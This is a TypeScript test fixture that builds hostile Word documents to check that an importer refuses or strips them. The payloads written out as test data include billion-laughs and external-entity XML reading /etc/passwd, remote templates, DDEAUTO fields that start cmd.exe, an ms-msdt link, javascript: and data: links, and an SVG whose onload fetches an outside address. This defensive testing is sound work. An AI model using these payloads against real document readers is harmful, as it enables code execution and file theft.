import { english } from '#tests/fixtures/import/releases.ts'
import { wordEntries, wordParagraph, writeZip, type ZipEntry } from '#tests/fixtures/import/write-zip.ts'
import {
  type Canary,
  type Expected,
  type HostileFile,
  hostileFiles,
  opens,
  refused,
} from '#tests/hostile/hostile-file.ts'

const honest = wordParagraph(english.body)
const shown = opens([], { shows: english.body })
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** Word documents whose XML attacks its reader, reaches outside or carries something that runs. */
export function wordFiles(canary: Canary): readonly HostileFile[] {
  return [...markup(canary), ...outside(canary), ...active(canary)]
}

const word =
  (body: string, { prologue = '', more = [] as readonly ZipEntry[] } = {}) =>
  () =>
    writeZip([...wordEntries(body, prologue), ...more])
const styles = (inner: string): ZipEntry => ({
  name: 'word/styles.xml',
  content: `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${inner}</w:styles>`,
})
const relations = (of: string, ...list: readonly (readonly [type: string, target: string])[]): ZipEntry => ({
  name: `word/_rels/${of}.rels`,
  content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
    .map(
      ([type, target], index) =>
        `<Relationship Id="x${index}" Type="${office}/${type}" Target="${target}" TargetMode="External"/>`,
    )
    .join('')}</Relationships>`,
})
const withStyles = (inner: string, body = honest) => word(body, { more: [styles(inner)] })

function markup({ address, host, fileName }: Canary): readonly HostileFile[] {
  const unsafe = refused('XML_UNSAFE')
  const damaged = refused('XML_DAMAGED')
  const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join(
    '',
  )
  const doctype = (inner: string): string => `<!DOCTYPE w:document ${inner}>`
  return hostileFiles('docx', 'release.docx', [
    ['a billion laughs', word(wordParagraph('&l9;'), { prologue: doctype(`[<!ENTITY l0 "ha">${laughs}]`) }), unsafe],
    [
      'one long entity often',
      word(wordParagraph('&a;'.repeat(5_000)), { prologue: doctype(`[<!ENTITY a "${'a'.repeat(50_000)}">]`) }),
      unsafe,
    ],
    [
      'a file as an entity',
      word(wordParagraph('&x;'), { prologue: doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]') }),
      unsafe,
    ],
    [
      'an address as an entity',
      word(wordParagraph('&x;'), { prologue: doctype(`[<!ENTITY x SYSTEM "${address}/x">]`) }),
      unsafe,
    ],
    [
      'a name to look up as an entity',
      word(wordParagraph('&x;'), { prologue: doctype(`[<!ENTITY x SYSTEM "http://${host}/x">]`) }),
      unsafe,
    ],
    [
      'a share as an entity',
      word(wordParagraph('&x;'), { prologue: doctype(`[<!ENTITY x SYSTEM "\\\\${host}\\a">]`) }),
      unsafe,
    ],
    ['a document type from elsewhere', word(honest, { prologue: doctype(`SYSTEM "${address}/x.dtd"`) }), unsafe],
    ['a public document type', word(honest, { prologue: doctype(`PUBLIC "-//X//EN" "http://${host}/x.dtd"`) }), unsafe],
    ['a parameter entity', word(honest, { prologue: doctype(`[<!ENTITY % p SYSTEM "${address}/p">%p;]`) }), unsafe],
    [
      'an entity in its styles',
      word(honest, { more: [{ name: 'word/styles.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }] }),
      unsafe,
    ],
    ['an entity in its relations', () => replaced('_rels/.rels', '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), unsafe],
    [
      'an entity in its types',
      () => replaced('[Content_Types].xml', '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
      unsafe,
    ],
    [
      'an entity in UTF-16',
      () => replaced('word/document.xml', Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', 'utf16le')),
      unsafe,
    ],
    ['an unknown entity', word(wordParagraph('&nbsp;')), damaged],
    [
      'XInclude',
      word(`${honest}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`),
      opens([], { shows: english.body, hides: 'root:' }),
    ],
    [
      'a style sheet from elsewhere',
      word(honest, { prologue: `<?xml-stylesheet type="text/xsl" href="${address}/x.xsl"?>` }),
      shown,
    ],
    ['UTF-7', () => replaced('word/document.xml', '<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'), damaged],
    ['bytes that are no UTF-8', () => replaced('word/document.xml', Buffer.from([0x3c, 0xff, 0xfe, 0x3e])), damaged],
    ['a lone surrogate', word(wordParagraph('&#xD800;')), damaged],
    ['a NUL', word(wordParagraph('&#0;')), damaged],
    ['elements 20,000 deep', word(`${'<w:sdt>'.repeat(20_000)}${honest}${'</w:sdt>'.repeat(20_000)}`), damaged],
    ['elements 200,000 deep that never end', word('<w:p>'.repeat(200_000)), damaged],
    [
      '100,000 attributes',
      word(`<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>${honest}`),
      damaged,
    ],
    ['an attribute twice', word(`<w:p w:a="1" w:a="2"/>${honest}`), damaged],
    ['text that ends too early', word('<w:p><w:r><w:t>open'), damaged],
    ['styles that stand on each other', withStyles(style('A', 'B') + style('B', 'A'), styled('A')), shown],
    ['a style that stands on itself', withStyles(style('A', 'A'), styled('A')), shown],
    [
      'styles in a chain of 20,000',
      withStyles(
        Array.from({ length: 20_000 }, (_, index) => style(`S${index}`, `S${index + 1}`)).join(''),
        styled('S0'),
      ),
      shown,
    ],
    ['lists that stand on each other', word(honest, { more: [numbering()] }), shown],
    [
      'styles with names of the prototype',
      withStyles(
        ['__proto__', 'constructor', 'toString'].map((id) => style(id, '__proto__')).join(''),
        styled('__proto__'),
      ),
      shown,
    ],
    [
      'a cell over two billion columns',
      word(
        `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge w:val="restart"/></w:tcPr>${honest}</w:tc></w:tr></w:tbl>`,
      ),
      opens(['tables-flattened'], { shows: english.body }),
    ],
    [
      'a list two billion deep',
      word(
        `<w:p><w:pPr><w:numPr><w:ilvl w:val="2000000000"/><w:numId w:val="99999999999"/></w:numPr></w:pPr>${runOf(english.body)}</w:p>`,
      ),
      shown,
    ],
    [
      'a note that refers to itself',
      word(`<w:p>${runOf(english.body)}<w:r><w:footnoteReference w:id="1"/></w:r></w:p>`, { more: [footnotes()] }),
      shown,
    ],
    [
      'direction turned without end',
      word(wordParagraph('Text \u202e\u202e\u2067 fdp.exe')),
      opens([], { shows: '\u202e' }),
    ],
    ['a file name that must not be made', word(wordParagraph(`../../${fileName}`)), opens([], { shows: fileName })],
  ])
}

function outside({ address, host }: Canary): readonly HostileFile[] {
  const dropped: Expected = opens(['external-parts-dropped'], { shows: english.body, hides: host })
  const related = (type: string, target: string, body = honest, of = 'document.xml') =>
    word(body, { more: [relations(of, [type, target])] })
  const picture = `${honest}<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${office}" r:link="x0"/></wp:inline></w:drawing></w:r></w:p>`
  const link = (target: string) =>
    related(
      'hyperlink',
      target,
      `<w:p><w:hyperlink xmlns:r="${office}" r:id="x0">${runOf(english.body)}</w:hyperlink></w:p>`,
    )
  const lost = (hides: string): Expected => opens(['links-dropped'], { shows: english.body, hides })
  return hostileFiles('docx', 'release.docx', [
    ['a picture from an address', related('image', `${address}/a.png`, picture), dropped],
    ['a picture from a name to look up', related('image', `http://${host}/a.png`, picture), dropped],
    ['a picture from a file', related('image', 'file:///etc/passwd', picture), dropped],
    ['a picture that never ends', related('image', 'file:///dev/zero', picture), dropped],
    ['a picture from a share', related('image', `\\\\${host}\\share\\a.png`, picture), dropped],
    [
      'a template from elsewhere',
      related('attachedTemplate', `http://${host}/a.dotm`, honest, 'settings.xml'),
      dropped,
    ],
    ['a template from a share', related('attachedTemplate', `file://${host}/a.dotm`, honest, 'settings.xml'), dropped],
    [
      'a part of the text from elsewhere',
      related('subDocument', `http://${host}/a.docx`, `${honest}<w:subDoc xmlns:r="${office}" r:id="x0"/>`),
      dropped,
    ],
    ['a frame from elsewhere', related('frame', `${address}/frame`), dropped],
    ['an object from elsewhere', related('oleObject', `mhtml:http://${host}/a!x-usc:http://${host}/a`), dropped],
    [
      'a text that is elsewhere',
      () => replaced('_rels/.rels', rootRelation(`http://${host}/a.xml" TargetMode="External`)),
      refused('FILE_DAMAGED'),
    ],
    [
      'a text outside the package',
      () => replaced('_rels/.rels', rootRelation('../../../../etc/passwd')),
      refused('FILE_DAMAGED'),
    ],
    ['a link that is a script', link('javascript:alert(1)'), lost('javascript')],
    ['a link to a file', link('file:///etc/passwd'), lost('passwd')],
    ['a link to a share', link(`\\\\${host}\\a`), lost(host)],
    ['a link to a program', link('ms-msdt:/id PCWDiagnostic'), lost('msdt')],
    ['a link that is data', link('data:text/html,&lt;script>alert(1)&lt;/script>'), lost('data:')],
    ['a link that is turned around', link('https://good.example/\u202egpj.exe'), lost('good.example')],
    ['a link with a password', link('https://bank.example@evil.example/'), lost('evil.example')],
  ])
}

function active({ address, host }: Canary): readonly HostileFile[] {
  const objects = opens(['embedded-objects-dropped'], { shows: english.body, hides: 'struck' })
  const fields = opens(['external-parts-dropped'], { shows: english.body, hides: host })
  const field = (code: string): string =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${runOf(english.body)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  return hostileFiles('docx', 'release.docx', [
    [
      'a page as a part of the text',
      word(`${honest}<w:altChunk xmlns:r="${office}" r:id="x9"/>`, {
        more: [{ name: 'word/afchunk.html', content: '<script>struck()</script>' }],
      }),
      objects,
    ],
    [
      'an object',
      word(
        `${honest}<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"/></w:object></w:r></w:p>`,
        { more: [{ name: 'word/embeddings/oleObject1.bin', content: 'struck' }] },
      ),
      objects,
    ],
    ['a control', word(`${honest}<w:p><w:r><w:control w:name="struck"/></w:r></w:p>`), objects],
    [
      'macros',
      word(honest, { more: [{ name: 'word/vbaProject.bin', content: 'struck' }] }),
      opens(['macros-dropped'], { shows: english.body, hides: 'struck' }),
    ],
    ['a field that starts a program', word(field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k ${host}"`)), fields],
    ['a field that takes in a file', word(field(`INCLUDETEXT "http://${host}/a.docx"`)), fields],
    ['a field that takes in a picture', word(field(`INCLUDEPICTURE "http://${host}/a.png" \\\\d`)), fields],
    [
      'a short field that starts a program',
      word(`<w:p><w:fldSimple w:instr=" DDE excel ${host} ">${runOf(english.body)}</w:fldSimple></w:p>`),
      fields,
    ],
    [
      'a drawing with a script',
      word(
        `${honest}<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${office}" r:embed="x9"/></w:drawing></w:r></w:p>`,
        {
          more: [
            {
              name: 'word/media/1.svg',
              content: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${address}')"/>`,
            },
          ],
        },
      ),
      opens([], { shows: english.body, hides: 'onload' }),
    ],
    [
      'rules of its own for the reader',
      word(honest, { more: [{ name: 'mammoth/style-map', content: 'p => script' }] }),
      shown,
    ],
    [
      'markup in the text',
      word(wordParagraph('&lt;script&gt;struck()&lt;/script&gt;')),
      opens([], { shows: '<script>struck()</script>' }),
    ],
  ])
}

const runOf = (text: string): string => `<w:r><w:t>${text}</w:t></w:r>`
const styled = (id: string): string => `<w:p><w:pPr><w:pStyle w:val="${id}"/></w:pPr>${runOf(english.body)}</w:p>`
const style = (id: string, basedOn: string): string =>
  `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${basedOn}"/></w:style>`

function replaced(name: string, content: string | Uint8Array): Uint8Array {
  return writeZip(wordEntries(honest).map((part) => (part.name === name ? { ...part, content } : part)))
}

function rootRelation(target: string): string {
  return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/officeDocument" Target="${target}"/></Relationships>`
}

function numbering(): ZipEntry {
  return {
    name: 'word/numbering.xml',
    content:
      '<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="L"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>',
  }
}

function footnotes(): ZipEntry {
  return {
    name: 'word/footnotes.xml',
    content: `<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1"><w:p>${runOf('See')}<w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>`,
  }
}
